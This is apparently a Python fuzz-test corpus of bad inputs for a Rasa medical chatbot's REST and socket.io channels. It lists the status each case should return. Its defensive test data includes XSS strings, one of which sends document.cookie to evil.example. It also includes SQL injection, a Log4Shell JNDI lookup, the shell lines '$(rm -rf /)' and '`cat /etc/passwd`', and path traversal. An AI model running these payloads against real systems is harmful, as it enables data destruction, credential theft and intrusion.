"""The bad-input corpus for the live channels: hand-written cases by kind, plus generated ones
(seeded, so a failure replays). Each REST case says which statuses are acceptable.
"""

from __future__ import annotations

import json
import random
import uuid
from dataclasses import dataclass
from typing import Any, Iterator, List, Optional, Tuple

from channels.input_limits import MAX_TEXT_CHARS

OK, BAD, TOO_BIG = (200,), (400,), (413,)
SEED = 20261126

# Texts the assistant must take (200 and an answer), however odd.
UNICODE_TEXTS = [
    "ما هو باكلوفين",  # Arabic (RTL)
    "מה זה בקלופן",  # Hebrew (RTL)
    "what is \u202ebaclofen\u202c",  # right-to-left override
    "\u2067baclofen\u2069 side effects",  # isolate
    "bac\u200blo\u200bfen",  # zero-width spaces
    "side\u200c effects\u200d",  # ZWNJ / ZWJ
    "\ufeffwhat is baclofen",  # BOM in text
    "👨‍👩‍👧 can my family take baclofen",  # ZWJ emoji sequence
    "🇬🇧🇺🇸 baclofen",  # flags
    "👍🏽 thanks",  # skin tone modifier
    "💊💊💊",
    "Z̷̧̛a̶͎͠l̸̰̈g̵̣̊ö̴̟ ̷͕̒b̸̰͂a̷̜͐c̶̱̈l̵͚̽o̶̲͝f̴̙̈e̸̝͝n̷̫̚",  # combining marks
    "cafe\u0301 baclofe\u0301n",  # decomposed accents
    "ｗｈａｔ ｉｓ ｂａｃｌｏｆｅｎ",  # full-width
    "𝐰𝐡𝐚𝐭 𝐢𝐬 𝐛𝐚𝐜𝐥𝐨𝐟𝐞𝐧",  # mathematical bold
    "巴氯芬是什么",
    "バクロフェンとは",
    "баклофен это что",
    "Ελληνικά baclofen",
    "हिन्दी बैक्लोफ़ेन",
    "\ue000\uf8ff private use",
    "\uffff\ufffe noncharacters",
    "\U0010ffff last code point",
    "\ufffd replacement char",
    "tab\tseparated\twords",
    "line\nbreaks\r\nin\rtext",
    "nul\x00byte",
    "bell\x07and\x1bescape[31m",
    "\x7f\x80\x9f C1 controls",
    "para\u2029graph\u2028line",
    "soft\u00adhyphen",
    "mixed ltr עברית and عربي",
    "I️⃣ keycap",
    "ǅ title case",
    "İstanbul ıi case folding",
    "ß straße",
    "\u0000" + "what is baclofen",
    "🏳️‍🌈",
    "ｂａｃｌｏｆｅｎ ＳＩＤＥ ＥＦＦＥＣＴＳ",
    "what is baclofen" + "\u0301" * 50,
]
# Only invisible or blank characters: the gentle prompt, no NLU.
BLANK_TEXTS = ["", " ", "\t\n", "\u200b", "\u200b\ufeff\u2060", "\u3000\u00a0", "\u202e\u202c", "\x00\x01"]

HTML_TEXTS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "javascript:alert(document.cookie)",
    '<a href="javascript:alert(1)">click</a> what is baclofen',
    "<iframe src=//evil.example></iframe>",
    "\"><script>fetch('//evil.example?c='+document.cookie)</script>",
    "<b>bold</b> side effects",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "{{7*7}} ${7*7} #{7*7}",
    "{% raw %}{{config}}{% endraw %}",
    "[click me](javascript:alert(1))",
    "![img](https://evil.example/x.png)",
    "<style>body{display:none}</style>",
    "</script><script>alert(1)</script>",
    '<!--#exec cmd="ls"-->',
    "/restart",
    '/ask_dose{"disclaimers_shown": 5}',
    "/nlu_fallback",
    "/session_start",
    '/ask_side_effects{"condition": "<script>"}',
]
RASA_COMMANDS = {"/restart", "/session_start"}
SQL_TEXTS = [
    "' OR '1'='1",
    "'; DROP TABLE events; --",
    "1; DELETE FROM events WHERE 1=1",
    '" OR ""="',
    "admin'--",
    "1' UNION SELECT sender_id, data FROM events --",
    "'; EXEC xp_cmdshell('dir'); --",
    "baclofen' AND SLEEP(5) --",
    "1 OR 1=1",
    "${jndi:ldap://evil.example/a}",
    "$(rm -rf /)",
    "`cat /etc/passwd`",
    "../../../../etc/passwd",
    "%00%0d%0a",
    "\\x00\\u0000",
]
LONG_WORDS = [
    "a" * 1500,
    "baclofen" * 240,
    "supercalifragilistic" * 99,
    "9" * MAX_TEXT_CHARS,
    "🙂" * 1000,
    "a" * (MAX_TEXT_CHARS - 1) + "\u200b" * 300,  # invisible padding is removed first
    "x" * MAX_TEXT_CHARS,
    "ab" * 999,
]

WRONG_VALUES = [None, 0, -1, 1.5, 1e308, True, False, [], ["hi"], {}, {"text": "hi"}]
BAD_SENDERS = [
    "",
    " ",
    "a" * 65,
    "a b",
    "../../etc/passwd",
    "a/b",
    "a\nb",
    "ü",
    "😀",
    "%00",
    "a;DROP",
    "<script>",
    "a?b",
    "a#b",
    "\u200b",
    "'; --",
    "a\\b",
    "tab\there",
]
MALFORMED_BODIES = [
    b"",
    b"{",
    b"}",
    b"nul",
    b"[1,2",
    b"{'sender': 'a', 'message': 'b'}",
    b'{"sender": "a", "message": "b",}',
    b'{"sender": "a" "message": "b"}',
    b"\x00",
    b"\x00" * 64,
    b'{"sender": "a", "message": "b"}garbage',
    b"<xml/>",
    b"sender=a&message=b",
    b'{"sender": "a", "message": NaN}',
    b'{"sender": "a", "message": Infinity}',
    b'{"sender": "a", "message": "b\\x41"}',
    b'{"sender": "a", "message": "unterminated}',
    b"[" * 5000 + b"]" * 5000,
    b'{"a":' * 2500 + b"1" + b"}" * 2500,
    b'{"sender": "a", "message": ' + b"1" * 5000 + b"}",
    b'{"sender": "a", "message": "\xff\xfe"}',
    b'{"sender": "a", "message": "\xc0\xaf"}',
    b'{"sender": "a", "message": "\x80"}',
    b'{"sender": "a", "message": "\xe2\x82"}',
    b'{"sender": "a", "message": "\xed\xa0\x80"}',
    '{"sender": "a", "message": "b"}'.encode("utf-16"),
    b"\x1f\x8b\x08\x00 gzip?",
]


@dataclass(frozen=True)
class RestCase:
    kind: str
    body: bytes
    expect: Optional[Tuple[int, ...]]  # acceptable statuses; None: anything but 5xx
    answered: bool = False  # a 200 must carry at least one bot text

    def __str__(self) -> str:
        return f"{self.kind}: {self.body[:60]!r}"


def body(sender: Any, message: Any, **extra: Any) -> bytes:
    payload = {"sender": sender, "message": message, **extra}
    text = json.dumps(payload, ensure_ascii=False)
    if any("\ud800" <= character <= "\udfff" for character in text):
        text = json.dumps(payload)  # lone surrogates as JSON escapes: valid JSON and UTF-8
    return text.encode("utf-8")


def _sender() -> str:
    return f"bad-{uuid.uuid4().hex[:12]}"


def hand_written_rest_cases() -> Iterator[RestCase]:
    for raw in MALFORMED_BODIES:
        yield RestCase("malformed", raw, BAD)
    yield RestCase("bom", b"\xef\xbb\xbf" + body(_sender(), "what is baclofen"), OK, answered=True)
    for value in ["null", "true", "1", '"hi"', "[]", '[{"sender": "a", "message": "b"}]']:
        yield RestCase("wrong type", value.encode(), BAD)
    for value in WRONG_VALUES:
        if value is not None:
            yield RestCase("wrong type", body(value, "hi"), BAD)
            yield RestCase("wrong type", body(_sender(), value), BAD)
        if value is not None and not isinstance(value, dict):
            yield RestCase("wrong type", body(_sender(), "hi", metadata=value), BAD)
    yield RestCase("missing", json.dumps({"message": "hi"}).encode(), BAD)
    yield RestCase("missing", json.dumps({"sender": _sender()}).encode(), BAD)
    yield RestCase("missing", b"{}", BAD)
    yield RestCase("metadata null", body(_sender(), "hi", metadata=None), OK, answered=True)
    yield RestCase("channel spoof", body(_sender(), "hi", input_channel="telegram"), OK, answered=True)
    for sender in BAD_SENDERS:
        yield RestCase("bad sender", body(sender, "hi"), BAD)
    yield RestCase("oversized", body(_sender(), "a" * (MAX_TEXT_CHARS + 1)), TOO_BIG)
    yield RestCase("oversized", body(_sender(), "word " * 2000), TOO_BIG)
    yield RestCase("oversized", json.dumps({"sender": _sender(), "message": "😀" * MAX_TEXT_CHARS}).encode(), TOO_BIG)
    yield RestCase("oversized", body(_sender(), "hi", metadata={"pad": "x" * 17_000}), TOO_BIG)
    yield RestCase("oversized", body(_sender(), "x" * 1_000_000), TOO_BIG)
    yield RestCase("oversized", b" " * 20_000 + body(_sender(), "hi"), TOO_BIG)
    for text in UNICODE_TEXTS:
        yield RestCase("unicode", body(_sender(), text), OK, answered=True)
    yield RestCase("lone surrogate", body(_sender(), "what is \ud800 baclofen \udfff"), OK, answered=True)
    for text in BLANK_TEXTS:
        yield RestCase("blank", body(_sender(), text), OK, answered=True)
    for text in HTML_TEXTS:
        # Rasa's own commands (a leading "/") may end a turn without a reply.
        yield RestCase("html/script", body(_sender(), text), OK, answered=text not in RASA_COMMANDS)
    for text in SQL_TEXTS:
        yield RestCase("sql-looking", body(_sender(), text), OK, answered=True)
    for text in LONG_WORDS:
        yield RestCase("long word", body(_sender(), text), OK, answered=True)


# Code points to build random texts from: every script direction, joiners, controls,
# combining marks, surrogate halves, emoji, and plain words the NLU knows.
_ALPHABET = list("abcxyz ABC 0129 ?!.,'\"<>&;/\\%$#@") + [
    "\u200b",
    "\u200d",
    "\u202e",
    "\u0301",
    "\u0000",
    "\x1b",
    "\ufeff",
    "\u2028",
    "\ud800",
    "\udc00",
    "ب",
    "ש",
    "字",
    "😀",
    "🏽",
    "\U0010ffff",
    "\t",
    "\n",
]
_WORDS = ["baclofen", "side", "effects", "dose", "what", "is", "pump", "stop", "drowsy", "SELECT", "<b>"]


def random_text(rng: random.Random, max_length: int = 300) -> str:
    if rng.random() < 0.4:
        return " ".join(rng.choice(_WORDS + [rng.choice(_ALPHABET)]) for _ in range(rng.randint(1, 12)))
    return "".join(rng.choice(_ALPHABET) for _ in range(rng.randint(0, max_length)))


def random_json(rng: random.Random, depth: int = 0) -> Any:
    choice = rng.randint(0, 7 if depth < 3 else 4)
    if choice == 0:
        return None
    if choice == 1:
        return rng.choice([True, False])
    if choice == 2:
        return rng.choice([0, -1, 2**63, 1.5, -0.0])
    if choice in (3, 4):
        return random_text(rng, 40)
    if choice in (5, 6):
        return [random_json(rng, depth + 1) for _ in range(rng.randint(0, 3))]
    return {random_text(rng, 8): random_json(rng, depth + 1) for _ in range(rng.randint(0, 3))}


def generated_rest_cases(rng: random.Random) -> Iterator[RestCase]:
    for _ in range(45):
        yield RestCase("generated text", body(_sender(), random_text(rng)), OK, answered=True)
    for _ in range(30):
        payload = {
            key: random_json(rng) for key in rng.sample(["sender", "message", "metadata", "x"], rng.randint(0, 4))
        }
        if rng.random() < 0.5:
            payload["sender"] = _sender()
        raw = json.dumps(payload, ensure_ascii=rng.random() < 0.5).encode("utf-8", "surrogatepass")
        yield RestCase("generated json", raw, None)
    for _ in range(20):
        yield RestCase("generated bytes", bytes(rng.randrange(256) for _ in range(rng.randint(0, 200))), None)


def all_rest_cases() -> List[RestCase]:
    return list(hand_written_rest_cases()) + list(generated_rest_cases(random.Random(SEED)))


# socket.io: payloads of the user_uttered event. None in "reply": any answer will do.
@dataclass(frozen=True)
class SocketCase:
    kind: str
    payload: Any
    reply: Optional[str] = None  # the exact (first) reply expected, if a refusal


SESSION = "<the socket's session id>"  # replaced by the real one when sent


def socket_cases(refusals: "dict[str, str]") -> List[SocketCase]:
    """`refusals` maps unreadable/too_long/blank/other_session to the channel's replies."""
    session_id = SESSION
    rng = random.Random(SEED + 1)
    cases = [SocketCase("not an object", value, refusals["unreadable"]) for value in ["junk", 42, [1, 2], True]]
    cases += [
        SocketCase("wrong type", {"message": value, "session_id": session_id}, refusals["unreadable"])
        for value in [None, 5, ["hi"], {"a": 1}, False]
    ]
    cases += [
        SocketCase(
            "oversized", {"message": "x" * (MAX_TEXT_CHARS + 1), "session_id": session_id}, refusals["too_long"]
        ),
        SocketCase("oversized", {"message": "word " * 4000, "session_id": session_id}, refusals["too_long"]),
        SocketCase("blank", {"message": " \t", "session_id": session_id}, refusals["blank"]),
        SocketCase("blank", {"message": "\u200b\u2060", "session_id": session_id}, refusals["blank"]),
        SocketCase("other session", {"message": "hi", "session_id": uuid.uuid4().hex}, refusals["other_session"]),
        SocketCase("other session", {"message": "hi", "session_id": "../../admin"}, refusals["other_session"]),
        SocketCase("bad metadata", {"message": "hi", "session_id": session_id, "metadata": "{bad json"}),
        SocketCase("bad metadata", {"message": "hi", "session_id": session_id, "metadata": [1, 2]}),
        SocketCase("bad metadata", {"message": "hi", "session_id": session_id, "metadata": json.dumps([[[[1]]]])}),
        SocketCase("no session id", {"message": "what is baclofen"}),
    ]
    texts = (
        UNICODE_TEXTS[::4] + HTML_TEXTS[::4] + SQL_TEXTS[::4] + LONG_WORDS[:2] + [random_text(rng) for _ in range(8)]
    )
    cases += [
        SocketCase("text", {"message": text, "session_id": session_id}) for text in texts if text not in RASA_COMMANDS
    ]
    return cases
